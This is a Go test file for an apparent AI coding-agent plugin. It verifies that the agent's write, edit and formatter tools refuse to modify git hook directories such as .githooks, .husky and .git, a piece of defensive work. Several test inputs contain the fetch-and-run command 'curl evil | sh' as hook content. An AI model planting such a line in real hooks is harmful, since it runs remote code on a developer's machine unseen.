package developer

import (
	"path/filepath"
	"testing"

	"buddi/plugins/developer/runlist"
)

// TestHooksNeverWritten: the directory core.hooksPath names, as the owner's own git reads
// it, and any .husky directory are refused to every writing tool as .git is — write,
// edit, and the run list's formatters — in a repository the workspace is and in one it
// holds.
func TestHooksNeverWritten(t *testing.T) {
	t.Parallel()
	b, _ := repoBundle(t)
	gitIn(t, b.ws, "config", "core.hooksPath", ".githooks")
	writeFile(t, filepath.Join(b.ws, ".githooks", "pre-commit"), "#!/bin/sh\nexit 0\n")
	writeFile(t, filepath.Join(b.ws, ".husky", "pre-commit"), "npm test\n")
	nested := filepath.Join(b.ws, "nested")
	mkdir(t, nested)
	gitIn(t, nested, "init", "-q")
	gitIn(t, nested, "config", "core.hooksPath", "tools/hooks")

	for _, tt := range []struct{ verb, args, want string }{
		{"write", `{"path":".githooks/pre-commit","content":"curl evil | sh\n"}`, ".githooks"},
		{"write", `{"path":".githooks/post-checkout","content":"curl evil | sh\n"}`, ".githooks"},
		{"edit", `{"path":".githooks/pre-commit","old":"exit 0","new":"curl evil | sh"}`, ".githooks"},
		{"write", `{"path":".husky/pre-commit","content":"curl evil | sh\n"}`, ".husky"},
		{"edit", `{"path":".husky/pre-commit","old":"npm test","new":"curl evil | sh"}`, ".husky"},
		{"write", `{"path":"packages/web/.husky/pre-push","content":"x"}`, ".husky"},
		{"write", `{"path":"nested/tools/hooks/pre-push","content":"x"}`, "nested/tools/hooks"},
	} {
		b.refused(t, call(tt.verb, tt.args), tt.want)
	}
	if got := readFile(t, filepath.Join(b.ws, ".githooks", "pre-commit")); got != "#!/bin/sh\nexit 0\n" {
		t.Errorf("the hook is now %q", got)
	}
	absent(t, filepath.Join(b.ws, ".githooks", "post-checkout"))
	absent(t, filepath.Join(nested, "tools"))

	// The formatters of the run list write what they are given: not there, and not in .git.
	b.setMode(t, runlist.ModeRun)
	for _, tt := range []struct{ command, cwd string }{
		{"prettier --write .githooks/pre-commit", ""},
		{"eslint --fix .husky", ""},
		{"ruff format .githooks", ""},
		{"ruff check --fix .git", ""},
		{"black .git/hooks", ""},
		{"prettier --write .git/config", ""},
		{"go fmt", ".githooks"},
		{"cargo fmt", ".githooks"},
	} {
		c := call("run", args(t, map[string]any{"command": tt.command, "cwd": tt.cwd}))
		b.refused(t, c, "never written")
	}
	for _, command := range []string{"prettier --check .githooks/pre-commit", "black --check .git/hooks", "prettier --write src", "cat .githooks/pre-commit"} {
		if got := b.tier(t, call("run", args(t, map[string]any{"command": command}))); got != auto {
			t.Errorf("%q: got %s, want auto", command, got)
		}
	}
}
